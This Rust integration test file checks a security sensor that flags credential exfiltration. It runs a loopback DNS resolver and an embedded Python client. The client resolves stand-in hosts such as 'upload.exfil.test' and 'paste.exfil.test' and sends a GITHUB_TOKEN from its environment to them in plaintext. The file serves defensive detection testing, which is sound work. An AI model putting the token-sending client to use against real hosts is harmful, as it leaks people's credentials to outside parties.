//! Destinations named by DNS answers, end to end through the real CLI: a resolver on
//! loopback answers the names a watched agent asks for (over connected UDP as glibc and Go
//! do, unconnected UDP as musl does, TCP, and glibc's own `getaddrinfo` pointed at it by a
//! private `/etc/resolv.conf`); the agent connects to the address and sends its GitHub
//! token in plaintext, with no `Host` header and no TLS. The alert must name the host the
//! agent resolved (`host_source: dns`), the token's issuer must not be alerted, and without
//! the DNS step the same sends carry the address only. Raw tokens never appear in the
//! sensor's output.

use std::net::{Ipv4Addr, SocketAddr, TcpListener, UdpSocket};
use std::process::Command;
use std::time::Duration;

use sensor_tests::*;

const KEY: &str = "00112233445566778899aabbccddeeff";

/// What the test resolver knows: name → CNAME target or IPv4 address.
const ZONE: &[(&str, &str)] = &[
    ("upload.exfil.test", "127.0.0.2"),
    ("api.github.com", "127.0.0.3"),
    ("files.exfil.test", "cname:edge.cdn.test"),
    ("edge.cdn.test", "127.0.0.4"),
    ("paste.exfil.test", "127.0.0.5"),
    ("gai.exfil.test", "127.0.0.6"),
];

/// The watched agent's client: resolves a name (or not) and sends its token to the address.
const CLIENT: &str = r#"
import os, socket, struct, sys

def query(name):
    q = struct.pack(">HHHHHH", 0x5151, 0x0100, 1, 0, 0, 0)
    for label in name.split("."):
        q += bytes([len(label)]) + label.encode()
    return q + b"\x00" + struct.pack(">HH", 1, 1)

def skip_name(m, p):
    while True:
        n = m[p]
        if n & 0xC0 == 0xC0:
            return p + 2
        if n == 0:
            return p + 1
        p += 1 + n

def first_a(m):
    qd, an = struct.unpack(">HH", m[4:8])
    p = 12
    for _ in range(qd):
        p = skip_name(m, p) + 4
    for _ in range(an):
        p = skip_name(m, p)
        ty, _, _, rdlen = struct.unpack(">HHIH", m[p:p + 10])
        p += 10
        if ty == 1:
            return socket.inet_ntoa(m[p:p + 4])
        p += rdlen
    sys.exit("no A record for the name")

def read_exact(s, n):
    b = b""
    while len(b) < n:
        c = s.recv(n - len(b))
        if not c:
            sys.exit("resolver closed")
        b += c
    return b

mode, target, port, resolver = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4]
if mode == "udp":
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(5)
    s.connect((resolver, 53))
    s.send(query(target))
    addr = first_a(s.recv(1500))
elif mode == "udp-unconnected":
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(5)
    s.sendto(query(target), (resolver, 53))
    addr = first_a(s.recvfrom(1500)[0])
elif mode == "tcp":
    s = socket.create_connection((resolver, 53), timeout=5)
    q = query(target)
    s.sendall(struct.pack(">H", len(q)) + q)
    n = struct.unpack(">H", read_exact(s, 2))[0]
    addr = first_a(read_exact(s, n))
elif mode == "getaddrinfo":
    addr = socket.getaddrinfo(target, port, socket.AF_INET, socket.SOCK_STREAM)[0][4][0]
elif mode == "direct":
    addr = target
else:
    sys.exit("unknown mode " + mode)
c = socket.create_connection((addr, port), timeout=5)
c.sendall(b"upload token=" + os.environ["GITHUB_TOKEN"].encode() + b"\n")
c.close()
"#;

/// A loopback resolver for [`ZONE`] on UDP and TCP port 53 of `addr`.
struct Resolver {
    addr: Ipv4Addr,
}

/// The question of a query: (id, name, qtype, bytes of the question section).
fn parse_query(m: &[u8]) -> Option<(u16, String, u16, Vec<u8>)> {
    let id = u16::from_be_bytes([*m.first()?, *m.get(1)?]);
    let mut p = 12;
    let mut labels = Vec::new();
    loop {
        let n = *m.get(p)? as usize;
        p += 1;
        if n == 0 {
            break;
        }
        labels.push(String::from_utf8_lossy(m.get(p..p + n)?).to_ascii_lowercase());
        p += n;
    }
    let qtype = u16::from_be_bytes([*m.get(p)?, *m.get(p + 1)?]);
    Some((id, labels.join("."), qtype, m.get(12..p + 4)?.to_vec()))
}

fn wire_name(name: &str) -> Vec<u8> {
    let mut out = Vec::new();
    for l in name.split('.') {
        out.push(l.len() as u8);
        out.extend_from_slice(l.as_bytes());
    }
    out.push(0);
    out
}

/// The answer to a query: A records (through CNAMEs) for known names, NXDOMAIN otherwise.
fn answer(query: &[u8]) -> Option<Vec<u8>> {
    let (id, name, qtype, question) = parse_query(query)?;
    let mut records = Vec::new();
    let mut known = false;
    let mut owner = name.clone();
    for _ in 0..4 {
        let Some((_, v)) = ZONE.iter().find(|(n, _)| *n == owner) else {
            break;
        };
        known = true;
        let (ty, rdata) = match v.strip_prefix("cname:") {
            Some(t) => (5u16, wire_name(t)),
            None => (1u16, v.parse::<Ipv4Addr>().unwrap().octets().to_vec()),
        };
        if ty == 1 && qtype != 1 {
            break; // AAAA and others: no data
        }
        let mut r = wire_name(&owner);
        r.extend_from_slice(&ty.to_be_bytes());
        r.extend_from_slice(&[0, 1]);
        r.extend_from_slice(&300u32.to_be_bytes());
        r.extend_from_slice(&(rdata.len() as u16).to_be_bytes());
        r.extend_from_slice(&rdata);
        records.push(r);
        match v.strip_prefix("cname:") {
            Some(t) => owner = t.to_string(),
            None => break,
        }
    }
    let rcode = if known { 0 } else { 3 };
    let mut m = id.to_be_bytes().to_vec();
    m.extend_from_slice(&[0x81, 0x80 | rcode, 0, 1]);
    m.extend_from_slice(&(records.len() as u16).to_be_bytes());
    m.extend_from_slice(&[0, 0, 0, 0]);
    m.extend_from_slice(&question);
    for r in records {
        m.extend_from_slice(&r);
    }
    Some(m)
}

impl Resolver {
    /// The test process's resolver (started once; the tests of this file share it).
    fn get() -> &'static Resolver {
        static R: std::sync::OnceLock<Resolver> = std::sync::OnceLock::new();
        R.get_or_init(Resolver::start)
    }

    /// Listens on 127.0.53.N:53 (N from the test's pid, so concurrent runs do not meet).
    fn start() -> Resolver {
        let addr = Ipv4Addr::new(127, 0, 53, 10 + (std::process::id() % 200) as u8);
        let udp = UdpSocket::bind((addr, 53)).expect("bind UDP port 53 (needs root)");
        let tcp = TcpListener::bind((addr, 53)).expect("bind TCP port 53 (needs root)");
        std::thread::spawn(move || {
            let mut buf = [0u8; 1500];
            while let Ok((n, from)) = udp.recv_from(&mut buf) {
                if let Some(a) = answer(&buf[..n]) {
                    let _ = udp.send_to(&a, from);
                }
            }
        });
        std::thread::spawn(move || {
            use std::io::{Read, Write};
            for conn in tcp.incoming() {
                let Ok(mut c) = conn else { break };
                std::thread::spawn(move || {
                    let mut len = [0u8; 2];
                    while c.read_exact(&mut len).is_ok() {
                        let mut q = vec![0u8; u16::from_be_bytes(len) as usize];
                        if c.read_exact(&mut q).is_err() {
                            break;
                        }
                        let Some(a) = answer(&q) else { break };
                        let mut out = (a.len() as u16).to_be_bytes().to_vec();
                        out.extend_from_slice(&a);
                        // Length and message in separate segments, as servers may send them.
                        let _ = c.write_all(&out[..2]);
                        let _ = c.write_all(&out[2..]);
                    }
                });
            }
        });
        Resolver { addr }
    }
}

fn config(dir: &std::path::Path) -> String {
    let cfg = dir.join("cfg.yaml");
    std::fs::write(&cfg, format!("fingerprint_key: \"{KEY}\"\n")).unwrap();
    cfg.display().to_string()
}

/// A listener on `ip` (any port) that keeps what it receives.
fn listener(ip: &str) -> TcpSink {
    TcpSink::start_on(&format!("{ip}:0"))
}

/// Runs the agent (the workload copied as `name`, watched by exe name) with `steps` and
/// the token in its environment; returns the sensor's output.
fn run_agent(dir: &std::path::Path, name: &str, token: &str, steps: &[String]) -> CliOutput {
    let agent = workload_as(dir, name);
    let cfg = config(dir);
    let sensor = CliSensor::start(&["--only-flag-scopes", "--config", &cfg, "--watch-exe", name]);
    let st = Command::new(&agent)
        .args(steps)
        .env("GITHUB_TOKEN", token)
        .status()
        .unwrap();
    std::thread::sleep(Duration::from_millis(700));
    let out = sensor.stop();
    assert!(st.success(), "agent failed: {st}\n{}", out.dump());
    out
}

fn client_step(
    script: &std::path::Path,
    mode: &str,
    target: &str,
    to: SocketAddr,
    r: &Resolver,
) -> String {
    format!(
        "sh:/usr/bin/python3 {} {mode} {target} {} {}",
        script.display(),
        to.port(),
        r.addr
    )
}

fn finding_to(findings: &[serde_json::Value], to: SocketAddr) -> Option<&serde_json::Value> {
    findings
        .iter()
        .find(|a| a["sink"]["endpoint"]["addr"] == to.to_string())
}

fn stats(out: &CliOutput) -> serde_json::Value {
    out.stderr
        .lines()
        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
        .find(|v| v["type"] == "stats")
        .unwrap_or_else(|| panic!("no stats line:\n{}", out.dump()))
}

#[test]
fn a_connect_to_an_address_from_a_dns_answer_is_named_by_it() {
    let token = github_token(53);
    let dir = temp_dir("dns-names");
    let script = dir.join("client.py");
    std::fs::write(&script, CLIENT).unwrap();
    let resolver = Resolver::get();
    let upload = listener("127.0.0.2");
    let issuer = listener("127.0.0.3");
    let files = listener("127.0.0.4");
    let paste = listener("127.0.0.5");
    let gai = listener("127.0.0.6");
    // glibc's getaddrinfo asks the resolver named by a private /etc/resolv.conf (a mount
    // namespace of the client only).
    let resolv = dir.join("resolv.conf");
    std::fs::write(
        &resolv,
        format!(
            "nameserver {}\noptions attempts:1 timeout:3\n",
            resolver.addr
        ),
    )
    .unwrap();
    // Hosts from files, then DNS (no nscd, no systemd-resolved NSS module in between).
    let nsswitch = dir.join("nsswitch.conf");
    std::fs::write(&nsswitch, "hosts: files dns\n").unwrap();
    let gai_step = format!(
        "sh:unshare --mount sh -c 'mount --bind {} /etc/resolv.conf && mount --bind {} /etc/nsswitch.conf && exec /usr/bin/python3 {} getaddrinfo gai.exfil.test {} -'",
        resolv.display(),
        nsswitch.display(),
        script.display(),
        gai.addr.port()
    );
    let steps = vec![
        client_step(&script, "udp", "upload.exfil.test", upload.addr, resolver),
        client_step(&script, "udp", "api.github.com", issuer.addr, resolver),
        client_step(
            &script,
            "udp-unconnected",
            "files.exfil.test",
            files.addr,
            resolver,
        ),
        client_step(&script, "tcp", "paste.exfil.test", paste.addr, resolver),
        gai_step,
    ];
    let out = run_agent(&dir, "dns-agent", &token, &steps);
    out.assert_no_leak(&[&token]);
    for s in [&upload, &issuer, &files, &paste, &gai] {
        let got = s.received.lock().unwrap().clone();
        assert!(
            String::from_utf8_lossy(&got).contains(&token),
            "{} did not receive the token",
            s.addr
        );
    }
    let findings = out.records("finding");
    for (sink, host) in [
        (&upload, "upload.exfil.test"),
        (&files, "files.exfil.test"),
        (&paste, "paste.exfil.test"),
        (&gai, "gai.exfil.test"),
    ] {
        let a = finding_to(&findings, sink.addr)
            .unwrap_or_else(|| panic!("no alert for {host}:\n{}", out.dump()));
        assert_eq!(a["verdict"], "exfiltration", "{a}");
        assert_eq!(a["sink"]["kind"], "network", "{a}");
        assert_eq!(a["sink"]["host"], host, "{a}");
        assert_eq!(a["sink"]["host_source"], "dns", "{a}");
        assert_eq!(a["chain"]["source"]["var"], "GITHUB_TOKEN", "{a}");
    }
    // The token's issuer, named only by the DNS answer: counted, not alerted.
    assert!(
        finding_to(&findings, issuer.addr).is_none(),
        "alert at the issuer:\n{}",
        out.dump()
    );
    let st = stats(&out);
    assert!(
        st["verdicts"]["allowed_issuer"].as_u64().unwrap_or(0) >= 1,
        "{st}"
    );
}

#[test]
fn without_the_dns_step_the_same_sends_carry_the_address_only() {
    let token = github_token(54);
    let dir = temp_dir("dns-control");
    let script = dir.join("client.py");
    std::fs::write(&script, CLIENT).unwrap();
    let resolver = Resolver::get();
    let upload = listener("127.0.0.2");
    let issuer = listener("127.0.0.3");
    let steps = vec![
        client_step(&script, "direct", "127.0.0.2", upload.addr, resolver),
        client_step(&script, "direct", "127.0.0.3", issuer.addr, resolver),
    ];
    let out = run_agent(&dir, "dns-control", &token, &steps);
    out.assert_no_leak(&[&token]);
    let findings = out.records("finding");
    for sink in [&upload, &issuer] {
        let a = finding_to(&findings, sink.addr)
            .unwrap_or_else(|| panic!("no alert for {}:\n{}", sink.addr, out.dump()));
        assert_eq!(a["verdict"], "exfiltration", "{a}");
        assert!(a["sink"]["host"].is_null(), "a name without DNS: {a}");
        assert!(a["sink"]["host_source"].is_null(), "{a}");
    }
}
